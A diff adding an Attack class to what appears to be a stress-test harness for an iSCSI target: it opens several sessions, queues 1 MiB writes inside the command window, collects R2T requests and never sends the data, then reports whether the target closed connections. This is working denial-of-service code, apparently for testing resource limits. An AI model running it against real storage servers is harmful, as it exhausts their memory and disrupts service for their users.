@@ -791,6 +791,53 @@ def _scsi_cmd(ini: Any, cdb: bytes, edtl: int, read: bool, immediate: bool) -> b
     return IP.encode_request(IP.OP_SCSI_CMD, f1, 0, itt, w, immediate=immediate)
 
 
+class R2tNoDataIscsi(Attack):
+    """Sessions (InitialR2T=Yes, ImmediateData=No) that keep WRITE(10)s of
+    1 MiB inside the CmdSN window, collect the R2Ts and never send Data-Out."""
+
+    name = "iscsi_r2t_never_data"
+    proto = "iscsi"
+    allowance_mib = 64.0
+
+    def __init__(self, target: Target, sessions: int = 4, depth: int = 16) -> None:
+        super().__init__(target)
+        self.n, self.depth = sessions, depth
+
+    def open(self) -> None:
+        self.inis = []
+        for _ in range(self.n):
+            ini = raw.RawIscsi(self.t.iscsi_port, IQN, timeout=10)
+            ini.login([("InitialR2T", "Yes"), ("ImmediateData", "No")])
+            ini.clear_unit_attention()
+            self.inis.append(ini)
+        self.socks = [i.s for i in self.inis]
+        self.report.update(writes=0, r2ts=0)
+
+    def loops(self) -> list[Callable[[], None]]:
+        def run() -> None:
+            for si, ini in enumerate(self.inis):
+                for k in range(self.depth):
+                    if ini.cmdsn > ini.maxcmdsn:
+                        break
+                    lba = 16384 + (si * self.depth + k) * 2048
+                    ini.send(_scsi_cmd(ini, raw.write10(lba, 2048), MiB, False, False))
+                    self.report["writes"] += 1
+            for ini in self.inis:
+                ini.s.settimeout(0.2)
+            while self.running():
+                for ini in self.inis:
+                    try:
+                        if ini.recv().opcode == IP.OP_R2T:
+                            self.report["r2ts"] += 1
+                    except (TimeoutError, raw.Dropped, OSError):
+                        pass
+
+        return [run]
+
+    def finish(self) -> None:
+        self.report["closed_by_target"] = count_closed(self.socks)
+
+
 class ImmediateFlood(Attack):
     """Sessions that send immediate SCSI commands (I bit: outside the CmdSN
     window) as fast as the socket takes them, never reading a response: 64 KiB
